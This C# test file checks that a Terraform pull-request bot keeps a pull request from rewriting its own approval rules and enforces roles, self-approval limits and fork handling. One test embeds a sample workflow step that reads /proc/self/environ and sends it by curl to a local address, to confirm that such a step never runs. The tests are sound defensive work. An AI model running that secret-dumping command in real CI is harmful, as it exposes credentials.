using System.Text.Json.Nodes;
using PlanBot.Cli;
using PlanBot.Cli.Tests.Harness;
using PlanBot.Testing;
using static PlanBot.Testing.TerraformFiles;

namespace PlanBot.Cli.Tests;

/// <summary>
/// Issue 13 through `planbot run` (real git, terraform and the fake GitHub): a pull request cannot
/// rewrite the rules it is judged by, every command needs a role, and approvals are timed on GitHub's clock.
/// </summary>
public class TrustBoundaryTests() : ActionRunTests("planbot-trust")
{

    protected override Dictionary<string, string> Files => new()
    {
        ["network/main.tf"] = LocalBackend + Resource("vpc", "10.0.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
        ["app/main.tf"] = LocalBackend + ReadsStateOf("../network") + Resource("svc", "v1", triggersReplace: "1"),
        ["planbot.yaml"] = "locks: { backend: local }\n",
        ["ci/planbot.yaml"] = "locks: { backend: local }\napproval: { foundational_paths: [network] }\n",
    };

    protected override async Task ArrangeAsync()
    {
        await _scenario.ApplyAsync("network");
        await _scenario.ApplyAsync("app");
        _github.Permissions["carol"] = ("write", "maintain");
        _github.Permissions["rita"] = ("read", "read");
        _github.Permissions["tom"] = ("read", "triage");
    }
    private static string Replace(string value, string trigger) => LocalBackend + ReadsStateOf("../network") + Resource("svc", value, triggersReplace: trigger);

    [Fact]
    public async Task A_pr_loosening_its_own_policy_stays_pending_its_author_cannot_approve_and_its_merge_applies_nothing()
    {
        var head = await PushAsync(40, new()
        {
            ["app/main.tf"] = Replace("v2", "2"),
            ["planbot.yaml"] = "locks: { backend: local }\napproval: { destructive: false, allow_self_approval: true, approvers: { min_permission: read } }\n",
        });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(40, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for app: comment /planbot approve"));
        var plan = _github.CommentsOn(40).First().Body;
        plan.ShouldContain("take effect after merge");
        plan.ShouldContain("`approval`");

        (code, errors) = await RunAsync("issue_comment", CommentEvent(40, "/planbot approve", "alice"));
        code.ShouldBe(0, errors);
        _github.CommentsOn(40).Last().Body.ShouldBe("@alice your approval does not count: you opened this pull request, and approving your own changes is off (approval.allow_self_approval).");
        _github.Statuses.Last().State.ShouldBe("pending");

        await _scenario.Repo.GitAsync("checkout", "-q", "main");
        await _scenario.Repo.GitAsync("-c", "user.name=Test", "-c", "user.email=test@planbot.invalid", "merge", "-q", "--no-ff", "pr-40", "-m", "Merge #40");
        var merge = (await _scenario.Repo.GitAsync("rev-parse", "HEAD")).Trim();
        _github.Pulls[40]["merged"] = true;
        _github.Pulls[40]["state"] = "closed";
        _github.CommitPulls[merge] = [40];
        (code, errors) = await RunAsync("push", new JsonObject { ["ref"] = "refs/heads/main", ["after"] = merge, ["repository"] = new JsonObject { ["full_name"] = "acme/infra", ["default_branch"] = "main" } });
        code.ShouldBe(0, errors);
        State("app").ShouldContain("\"v1\"", customMessage: "the unapproved replace was not applied");
        State("app").ShouldNotContain("\"v2\"");
    }

    [Fact]
    public async Task A_policy_change_alone_needs_approval_and_a_layout_change_does_not()
    {
        var head = await PushAsync(41, new()
        {
            ["network/main.tf"] = LocalBackend + Resource("vpc", "10.1.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
            ["planbot.yaml"] = "locks: { backend: local }\npull_requests: { plan_drafts: true }\n",
        });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(41, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"));
        _github.CommentsOn(41).First().Body.ShouldContain("`pull_requests`");

        head = await PushAsync(42, new()
        {
            ["network/main.tf"] = LocalBackend + Resource("vpc", "10.2.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
            ["planbot.yaml"] = "locks: { backend: local }\ndiscovery: { ignore: [\"modules/**\"] }\n",
        });
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(42, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "planned; no approval needed"));
        _github.CommentsOn(42).First().Body.ShouldNotContain("take effect after merge");
    }

    [Fact]
    public async Task A_policy_only_change_is_its_own_approval_item_never_approved_by_its_author_and_voided_by_a_push()
    {
        var head = await PushAsync(44, new()
        {
            ["planbot.yaml"] = "locks: { backend: local }\napproval: { destructive: false }\n",
        });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(44, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", PlanBot.Core.Workflows.PullRequestWorkflow.PolicyOnlyGate));
        _github.CommentsOn(44).First().Body.ShouldContain("**policy change** (`planbot.yaml`) needs approval");

        (await RunAsync("issue_comment", CommentEvent(44, "/planbot approve", "alice"))).Code.ShouldBe(0);
        _github.CommentsOn(44).Last().Body.ShouldStartWith("@alice your approval does not count");
        _github.Statuses.Last().State.ShouldBe("pending");
        (code, errors) = await RunAsync("issue_comment", CommentEvent(44, "/planbot approve -p planbot.yaml", "carol"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "policy change approved by @carol; no changes"));
        _github.CommentsOn(44).First().Body.ShouldContain("**policy change** (`planbot.yaml`): approved by @carol");

        var pushed = await PushAsync(44, new() { ["planbot.yaml"] = "locks: { backend: local }\napproval: { destructive: false, required: 1 }\n" });
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(44));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((pushed, "pending", "planbot/apply-gate", PlanBot.Core.Workflows.PullRequestWorkflow.PolicyOnlyGate));
        _github.CommentsOn(44).First().Body.ShouldContain("are void: the pull request was pushed since");
    }

    [Fact]
    public async Task A_policy_tightened_on_the_default_branch_after_the_pr_was_opened_applies_to_its_next_run_and_the_pr_cannot_loosen_it()
    {
        var head = await PushAsync(48, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.8.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(48, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "planned; no approval needed"));

        // main tightens after the PR was opened (network becomes foundational); the PR's events still name the old base
        await _scenario.Repo.GitAsync("checkout", "-q", "main");
        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\napproval: { foundational_paths: [network] }\n");
        await _scenario.Repo.CommitAsync("main tightens: network is foundational");
        await _scenario.Repo.GitAsync("checkout", "-q", "pr-48");
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(48));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"), "judged by main as it is when the run starts");
        _github.CommentsOn(48).First().Body.ShouldNotContain("take effect after merge", customMessage: "the PR is only behind main: it changes no policy key");

        // the PR answers by loosening the rules in its own planbot.yaml: they stay main's, and the change is flagged
        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\napproval: { destructive: false, allow_self_approval: true, foundational_paths: [] }\n");
        var loosened = await _scenario.Repo.CommitAsync("loosen it back");
        _github.Pulls[48]["head"]!["sha"] = loosened;
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(48));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((loosened, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"));
        _github.CommentsOn(48).First().Body.ShouldContain("take effect after merge");
        (code, errors) = await RunAsync("issue_comment", CommentEvent(48, "/planbot approve", "alice"));
        code.ShouldBe(0, errors);
        _github.CommentsOn(48).Last().Body.ShouldStartWith("@alice your approval does not count: you opened this pull request");
        _github.Statuses.Last().State.ShouldBe("pending");
    }

    [Fact]
    public async Task A_pr_adding_workflow_steps_a_terraform_version_or_a_mirror_does_not_get_them_run_on_its_plan()
    {
        var stolen = _dir.Combine("stolen-environ");
        var ran = _dir.Combine("step-ran");
        var workflows = $"workflows:\n  default:\n    plan:\n      - init\n      - run: [sh, -c, \"cat /proc/self/environ > {stolen}; curl -s -m 2 --data-binary @{stolen} http://127.0.0.1:9/; touch {ran}\"]\n      - plan\n";
        var head = await PushAsync(49, new()
        {
            ["network/main.tf"] = LocalBackend + Resource("vpc", "10.49.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
            ["planbot.yaml"] = "locks: { backend: local }\nterraform: { version: 1.5.7, mirror: \"file:///nonexistent/mirror\" }\n" + workflows,
        });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(49, "opened"));
        code.ShouldBe(0, errors);
        File.Exists(stolen).ShouldBeFalse("the PR's own run step did not run");
        File.Exists(ran).ShouldBeFalse();
        var plan = _github.CommentsOn(49).First().Body;
        plan.ShouldContain("`terraform`");
        plan.ShouldContain("`workflows`");
        plan.ShouldContain("take effect after merge");
        plan.ShouldNotContain("1.5.7", customMessage: "the terraform on PATH planned it, not a version the PR picked from its mirror");
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"), "planned (not failed installing 1.5.7), and the policy change needs approval");

        // control: the same step on main runs for the next PR (so the check above can fail), and main's mirror is used
        await _scenario.Repo.GitAsync("checkout", "-q", "main");
        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\n" + workflows);
        await _scenario.Repo.CommitAsync("main adopts the step");
        head = await PushAsync(50, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.50.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(50, "opened"));
        code.ShouldBe(0, errors);
        File.Exists(ran).ShouldBeTrue("main's step runs");
        File.ReadAllText(stolen).ShouldNotContain(FakeGitHub.Token, customMessage: "and even then without PlanBot's token");

        await _scenario.Repo.GitAsync("checkout", "-q", "main");
        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\nterraform: { version: 1.5.7, mirror: \"file:///nonexistent/mirror\" }\n");
        await _scenario.Repo.CommitAsync("main pins a version from a mirror");
        head = await PushAsync(51, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.51.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
        (code, errors) = await RunAsync("pull_request", PullRequestEvent(51, "opened"));
        _github.Statuses.Last().ShouldBe((head, "failure", "planbot/apply-gate", _github.Statuses.Last().Description), "main's version and mirror are used: the install from the missing mirror fails");
        _github.CommentsOn(51).First().Body.ShouldContain("1.5.7");
    }

    [Fact]
    public async Task A_forks_own_plan_forks_does_not_get_it_planned_even_when_an_approver_asks()
    {
        await PushAsync(43, new()
        {
            ["network/main.tf"] = LocalBackend + Resource("vpc", "10.9.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
            ["planbot.yaml"] = "locks: { backend: local }\npull_requests: { plan_forks: true }\n",
        });
        _github.Pulls[43]["head"]!["repo"]!["full_name"] = "mallory/infra";
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(43, "opened"));
        code.ShouldBe(0, errors);
        _github.CommentsOn(43).Single().Body.ShouldContain("A fork's own `planbot.yaml` cannot enable it.");
        (code, errors) = await RunAsync("issue_comment", CommentEvent(43, "/planbot plan", "carol"));
        code.ShouldBe(0, errors);
        _github.CheckRuns.ShouldBeEmpty();
        _github.Statuses.Last().State.ShouldBe("failure");
        State("network").ShouldContain("10.0.0.0/16");
    }

    [Theory]
    [InlineData("rita", "read")]
    [InlineData("tom", "triage")]
    public async Task Read_and_triage_users_commands_are_refused_with_the_role_named_and_change_nothing(string user, string role)
    {
        var head = await PushAsync(44, new() { ["app/main.tf"] = Replace("v2", "2") });
        (await RunAsync("pull_request", PullRequestEvent(44, "opened"))).Code.ShouldBe(0);
        var statuses = _github.Statuses.Count;
        var checkRuns = _github.CheckRuns.Count;
        var plan = _github.CommentsOn(44).First().Body;

        (await RunAsync("issue_comment", CommentEvent(44, "/planbot plan", user))).Code.ShouldBe(0);
        _github.CommentsOn(44).Last().Body.ShouldBe($"@{user} `/planbot plan` needs at least the `write` role on acme/infra (`commands.plan.min_permission`); yours is `{role}`. Nothing was done.");
        (await RunAsync("issue_comment", CommentEvent(44, "/planbot unlock", user))).Code.ShouldBe(0);
        _github.CommentsOn(44).Last().Body.ShouldBe($"@{user} `/planbot unlock` needs at least the `write` role on acme/infra (`commands.unlock.min_permission`); yours is `{role}`. Nothing was done.");
        (await RunAsync("issue_comment", CommentEvent(44, "/planbot apply", user))).Code.ShouldBe(0);
        _github.CommentsOn(44).Last().Body.ShouldBe($"@{user} `/planbot apply` needs the approver role (`approval.approvers`: users, teams, or at least `maintain`): your role on acme/infra is {role}; approvals need at least maintain. Nothing was done.");

        _github.Statuses.Count.ShouldBe(statuses);
        _github.CheckRuns.Count.ShouldBe(checkRuns);
        _github.CommentsOn(44).First().Body.ShouldBe(plan);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for app: comment /planbot approve"));
        State("app").ShouldContain("\"v1\"");
    }

    [Fact]
    public async Task An_approval_in_the_same_second_as_the_plan_counts()
    {
        var head = await PushAsync(45, new() { ["app/main.tf"] = Replace("v2", "2") });
        (await RunAsync("pull_request", PullRequestEvent(45, "opened"))).Code.ShouldBe(0);
        var posted = _github.CommentsOn(45).First().Updated;
        // GitHub's timestamps have whole seconds: an approval in the plan's second shows that second, earlier than the plan's true instant
        var sameSecond = DateTimeOffset.FromUnixTimeSeconds(posted.ToUnixTimeSeconds());
        var (code, errors) = await RunAsync("issue_comment", CommentEvent(45, "/planbot approve", "carol", sameSecond));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "approved: app by @carol"));

        // one second before the plan was shown: not an approval of it, and the note says so (not "a push")
        var early = await PushAsync(46, new() { ["app/main.tf"] = Replace("v3", "3") });
        (await RunAsync("pull_request", PullRequestEvent(46, "opened"))).Code.ShouldBe(0);
        var before = DateTimeOffset.FromUnixTimeSeconds(_github.CommentsOn(46).First().Updated.ToUnixTimeSeconds() - 1);
        (await RunAsync("issue_comment", CommentEvent(46, "/planbot approve", "carol", before))).Code.ShouldBe(0);
        _github.Statuses.Last().ShouldBe((early, "pending", "planbot/apply-gate", "approval needed for app: comment /planbot approve"));
        var body = _github.CommentsOn(46).First().Body;
        body.ShouldContain("before the plan of");
        body.ShouldNotContain("a push since then");
    }

    [Fact]
    public async Task The_config_path_input_is_honoured_for_the_trusted_policy()
    {
        _environment.Set("PLANBOT_CONFIG_DIR", "ci");
        var head = await PushAsync(47, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.3.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(47, "opened"));
        code.ShouldBe(0, errors);
        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"));
    }
}
